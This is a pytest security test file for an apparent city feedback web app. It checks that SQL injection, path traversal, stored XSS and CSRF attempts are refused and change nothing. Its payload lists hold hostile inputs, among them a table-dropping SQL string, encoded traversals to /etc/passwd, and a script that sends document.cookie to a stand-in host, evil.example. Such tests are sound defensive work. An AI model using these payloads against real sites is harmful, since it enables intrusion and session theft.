"""The outside attack of issue 14, replayed: SQL injection, path traversal, stored XSS and CSRF attempts
against real routes are refused (never a 5xx) and change nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest
from argon2 import PasswordHasher
from fastapi.testclient import TestClient
from markupsafe import escape

from smartcity.accounts import service as accounts
from smartcity.core.security import Actor
from smartcity.feedback import service as feedback
from smartcity.feedback.schemas import ReportCreate
from smartcity.web.ratelimit import RateLimitSettings

SYSTEM = Actor.system("attack-tests")
PASSWORD = "attack horse battery staple"
HTML = {"accept": "text/html"}
PHU_CUONG = {"lon": 106.655, "lat": 10.98}

SQL_INJECTION = [
    "' OR '1'='1",
    "1' OR 1=1 --",
    "'; DROP TABLE users; --",
    "' UNION SELECT username, password_hash FROM users --",
    "1) OR (1=1",
    "%' AND 1=(SELECT COUNT(*) FROM audit_log) AND '%'='",
]
PATH_TRAVERSAL = [
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fsecret_key",
    "..%5C..%5C..%5Cwindows%5Cwin.ini",
    "....%2F%2F....%2F%2Fetc%2Fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%00%2Fetc%2Fpasswd",
]
STORED_XSS = [
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(document.cookie)>",
    "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
    '<a href="javascript:alert(1)">bấm vào đây</a>',
]


@dataclass
class Target:
    """The app on a test database with the city pack, an administrator, a public and a private report."""

    client: TestClient
    db: Any
    settings: Any
    public_code: str
    private_code: str

    def bearer(self, username: str = "attack.admin") -> dict[str, str]:
        """Authorization headers of a fresh token."""
        token = accounts.login_for_token(
            self.db, settings=self.settings, username=username, password=PASSWORD, client_ip="10.8.8.8"
        ).access_token
        return {"Authorization": f"Bearer {token}"}


@pytest.fixture
def target(db, settings, monkeypatch) -> Iterator[Target]:  # type: ignore[no-untyped-def]
    """The application under attack (rate limits off: they have their own tests and would answer 429)."""
    from smartcity.city.loader import load_city_pack
    from smartcity.web.app import create_app

    monkeypatch.setattr(accounts, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
    accounts._dummy_hash.cache_clear()
    settings.set_section(RateLimitSettings(enabled=False))
    load_city_pack(db, pack="thu-dau-mot", actor=SYSTEM)
    accounts.create_user(
        db, actor=SYSTEM, username="attack.admin", password=PASSWORD, roles=[("admin", None)]
    )
    codes = []
    for is_public in (True, False):
        data = ReportCreate(
            category_code="ha-tang", description="Ổ gà lớn giữa đường.", is_public=is_public, **PHU_CUONG
        )
        codes.append(
            feedback.submit_report(
                db, actor=SYSTEM, data=data, secret=settings.resolved_secret_key
            ).report.code
        )
    with TestClient(create_app(settings, db)) as client:
        yield Target(client, db, settings, public_code=codes[0], private_code=codes[1])
    accounts._dummy_hash.cache_clear()


def _no_server_error(response: Any) -> Any:
    assert response.status_code < 500, (response.request.url, response.status_code, response.text[:300])
    return response


def test_sql_injection_attempts_are_data_not_sql(target):
    for payload in SQL_INJECTION:
        _sql_injection(target, payload)
    found = target.client.get("/api/v1/feedback/reports", params={"q": target.public_code}).json()
    assert found["total"] == 1  # the same filter with a real value does find
    users = _no_server_error(target.client.get("/api/v1/accounts/users", headers=target.bearer()))
    assert users.status_code == 200 and "attack.admin" in users.text  # the tables are all still there


def _sql_injection(target: Target, payload: str) -> None:
    client, admin = target.client, target.bearer()
    for name in ("q", "status", "category", "ward", "unit", "channel"):
        answer = _no_server_error(client.get("/api/v1/feedback/reports", params={name: payload}))
        assert answer.status_code in (200, 422)
        if answer.status_code == 200:  # a filter that matches nothing, never one that matches everything
            assert target.private_code not in answer.text and answer.json()["total"] == 0
    assert (
        _no_server_error(client.get(f"/api/v1/feedback/reports/{quote(payload, safe='')}")).status_code == 404
    )
    assert (
        _no_server_error(client.get("/api/v1/dossiers", params={"q": payload}, headers=admin)).json()["total"]
        == 0
    )
    sign_in = client.post(
        "/api/v1/auth/token", data={"grant_type": "password", "username": payload, "password": payload}
    )
    assert _no_server_error(sign_in).status_code in (400, 401, 422)
    lookup = client.post("/api/v1/dossiers/lookup", json={"code": payload, "second_factor": "074090001234"})
    assert _no_server_error(lookup).status_code in (404, 422)


def test_path_traversal_attempts_never_leave_the_file_store(target):
    secret = target.settings.resolved_secret_key
    admin = target.bearer()
    urls = (
        "/feedback/static/{}",
        "/static/{}",
        "/api/v1/feedback/photos/{}",
        "/api/v1/dossiers/{}/documents/receipt.pdf",
        "/api/v1/dossiers/{}/attachments/1",
        "/api/v1/documents/{}",
    )
    for url in (template.format(payload) for template in urls for payload in PATH_TRAVERSAL):
        answer = _no_server_error(target.client.get(url, headers=admin))
        assert 400 <= answer.status_code < 500, url
        assert "root:" not in answer.text and secret not in answer.text and "[fonts]" not in answer.text
    assert target.client.get("/feedback/static/feedback.js").status_code == 200  # the routes serve files


def test_stored_xss_attempts_are_escaped_on_every_page_that_shows_them(target):
    for payload in STORED_XSS:
        _stored_xss(target, payload)


def _stored_xss(target: Target, payload: str) -> None:
    report = {"category_code": "ha-tang", "description": f"Ổ gà {payload}", "address": payload, **PHU_CUONG}
    created = _no_server_error(target.client.post("/api/v1/feedback/reports", json=report))
    assert created.status_code == 201
    code = created.json()["report"]["code"]
    admin = target.bearer()
    for url, headers in (
        (f"/phan-anh/{code}", HTML),
        ("/phan-anh", HTML),
        ("/can-bo/phan-anh?status=", {**HTML, **admin}),
    ):
        page = _no_server_error(target.client.get(url, headers=headers, follow_redirects=False))
        assert page.status_code == 200, url
        assert payload not in page.text, url  # never the markup as sent
        assert str(escape(payload)) in page.text, url  # but the text, escaped
    data = target.client.get(f"/api/v1/feedback/reports/{code}")
    assert (
        data.headers["content-type"] == "application/json"
        and data.headers["x-content-type-options"] == "nosniff"
    )


def _signed_in(client: TestClient) -> str:
    """Sign the client's cookie session in as the administrator; the session's CSRF token."""
    page = client.get("/login", headers=HTML)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    form = {"username": "attack.admin", "password": PASSWORD, "csrf_token": token, "next": "/can-bo"}
    assert client.post("/login", data=form, headers=HTML, follow_redirects=False).status_code == 303
    me = client.get("/api/v1/auth/me").json()
    assert me["name"] == "attack.admin"
    return str(me["csrf_token"])


CSRF_ATTEMPTS = {
    "api call without the header": ("/api/v1/accounts/api-keys", {"json": {"name": "csrf"}}),
    "api call with a forged header": (
        "/api/v1/accounts/api-keys",
        {"json": {"name": "csrf"}, "headers": {"X-CSRF-Token": "forged"}},
    ),
    "staff form without the token": ("/can-bo/phan-anh/r/{code}/accept", {"data": {"back": "/can-bo"}}),
    "staff form with another session's token": (
        "/can-bo/phan-anh/r/{code}/accept",
        {"data": {"back": "/can-bo", "csrf_token": "another-sessions-token"}},
    ),
    "sign-out form without the token": ("/logout", {"data": {}}),
}


def test_csrf_attempts_on_a_signed_in_browser_are_refused_and_change_nothing(target):
    _signed_in(target.client)
    for attempt in sorted(CSRF_ATTEMPTS):
        _csrf_attempt(target, attempt)


def _csrf_attempt(target: Target, attempt: str) -> None:
    client = target.client
    url, options = CSRF_ATTEMPTS[attempt]
    answer = _no_server_error(
        client.post(url.format(code=target.public_code), follow_redirects=False, headers=HTML, **options)
        if "data" in options
        else client.post(url, follow_redirects=False, **options)
    )
    assert answer.status_code == 403, (attempt, answer.text[:300])
    assert client.get("/api/v1/auth/me").json()["name"] == "attack.admin"  # still signed in
    assert client.get("/api/v1/accounts/api-keys", headers=target.bearer()).json() == []  # no key made
    report = client.get(f"/api/v1/feedback/reports/{target.public_code}", headers=target.bearer()).json()
    assert report["status"] == "new"  # not accepted


def test_the_same_requests_with_the_sessions_token_pass(target):
    """The control of the CSRF cases: with the session's own token the very same requests go through."""
    client = target.client
    token = _signed_in(client)
    key = client.post("/api/v1/accounts/api-keys", json={"name": "csrf"}, headers={"X-CSRF-Token": token})
    assert key.status_code == 201
    form = {"back": "/can-bo", "csrf_token": token}
    accepted = client.post(
        f"/can-bo/phan-anh/r/{target.public_code}/accept", data=form, follow_redirects=False
    )
    assert accepted.status_code == 303
    report = client.get(f"/api/v1/feedback/reports/{target.public_code}", headers=target.bearer()).json()
    assert report["status"] == "accepted"
